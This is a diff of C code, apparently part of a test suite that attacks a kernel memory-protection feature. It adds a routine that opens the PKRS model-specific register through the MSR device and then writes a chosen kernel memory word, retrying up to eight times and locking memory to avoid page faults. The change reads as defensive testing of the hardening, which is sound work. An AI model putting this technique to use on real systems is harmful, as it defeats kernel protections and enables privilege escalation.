@@ -507,6 +507,38 @@ static int cr4_copy(void)
 
 #define MSR_IA32_PKRS	0x6e1
 #define MSR_MAJOR	202
+#define MSR_TRIES	8
+
+static struct {
+	int device;
+	u64 open;
+} msr;
+
+/*
+ * The register stays open until the CPU switches threads, or ends a section of a setter.
+ * So one process does both, at once. Where something comes in between, it is killed.
+ */
+static int open_and_write(void *arg)
+{
+	const struct kpkeys_attack_word *word = arg;
+
+	/* It may fail: what counts is whether the register is open after that. */
+	if (pwrite(msr.device, &msr.open, sizeof(msr.open), MSR_IA32_PKRS) < 0 && errno != EIO)
+		die("MSR 0x%x: %s", MSR_IA32_PKRS, strerror(errno));
+	kernel_write(word->addr, word->value);
+	return 0;
+}
+
+static bool write_by_msr(u64 slot, u64 value)
+{
+	struct kpkeys_attack_word word = { .addr = slot, .value = value };
+	int tries;
+
+	for (tries = 0; tries < MSR_TRIES; tries++)
+		if (ended_well(start(open_and_write, &word)))
+			return true;
+	return false;
+}
 
 /*
  * Many write MSRs whose numbers are in memory at some time, which the attacker could
@@ -515,21 +547,23 @@ static int cr4_copy(void)
  */
 static int msr_number(void)
 {
-	const u64 all_open = 0;
-	int device;
+	u64 reg;
 
 	if (!on_arch("x86_64"))
 		return not_possible("the register has no number");
 	run_on_cpu(0);
 	if (mknod("/msr", S_IFCHR | 0600, makedev(MSR_MAJOR, 0)) && errno != EEXIST)
 		die("cannot make a device: %s", strerror(errno));
-	device = open("/msr", O_WRONLY | O_CLOEXEC);
-	if (device < 0)
+	msr.device = open("/msr", O_RDWR | O_CLOEXEC);
+	if (msr.device < 0)
 		die("MSRs of CPU 0: %s", strerror(errno));
-	/* It may fail: what counts is whether the register is open after that. */
-	if (pwrite(device, &all_open, sizeof(all_open), MSR_IA32_PKRS) < 0 && errno != EIO)
-		die("MSR 0x%x: %s", MSR_IA32_PKRS, strerror(errno));
-	return steal_by_write(own_page_slot());
+	/* As the setters have it, if it is in use: interrupts return to no other value. */
+	if (pread(msr.device, &reg, sizeof(reg), MSR_IA32_PKRS) == sizeof(reg))
+		is_register(reg, 0, &msr.open);
+	/* A page fault between the two would set a page table, and so close the register. */
+	if (mlockall(MCL_CURRENT))
+		die("cannot lock memory: %s", strerror(errno));
+	return steal_by(write_by_msr, own_page_slot());
 }
 
 const struct attack registers[] = {
